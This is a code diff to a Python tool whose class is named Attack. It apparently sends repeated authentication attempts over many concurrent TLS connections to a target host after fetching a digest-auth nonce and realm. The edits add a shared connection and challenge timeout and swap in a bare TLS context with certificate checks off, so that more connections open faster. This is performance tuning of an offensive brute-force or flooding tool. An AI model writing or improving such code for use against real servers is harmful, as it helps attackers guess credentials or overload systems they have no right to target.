@@ -18,6 +18,8 @@ import time
 from typing import Any
 
 PATIENCE = 1.5
+# Seconds for a connection, and for the challenge: with many at once both take long.
+OPENING = 8
 NONCE = re.compile(rb'nonce="([^"]+)"')
 REALM = re.compile(rb'realm="([^"]+)"')
 
@@ -74,7 +76,7 @@ class Attack:
         send(request(self.order, local, 1, None, ""))
         challenge = b""
         while b"nonce=" not in challenge:
-            challenge = await receive(PATIENCE)
+            challenge = await receive(OPENING)
             if not challenge:
                 return
         for number in range(2, 2 + self.order["tries"]):
@@ -119,12 +121,13 @@ class Attack:
 
     async def tls(self, connection: int) -> None:
         """Over one TLS connection; a connection that is not let in is no error."""
-        context = ssl.create_default_context()
+        # Not the default one: the authorities that it loads take 25 ms a connection, seconds for many of them.
+        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
         context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
         place = (self.order["target"], self.order["port"])
         try:
             opening = asyncio.open_connection(*place, ssl=context, local_addr=(self.source, 0))
-            reader, writer = await asyncio.wait_for(opening, 8)
+            reader, writer = await asyncio.wait_for(opening, OPENING)
         except (OSError, asyncio.TimeoutError):
             return
         self.opened += 1
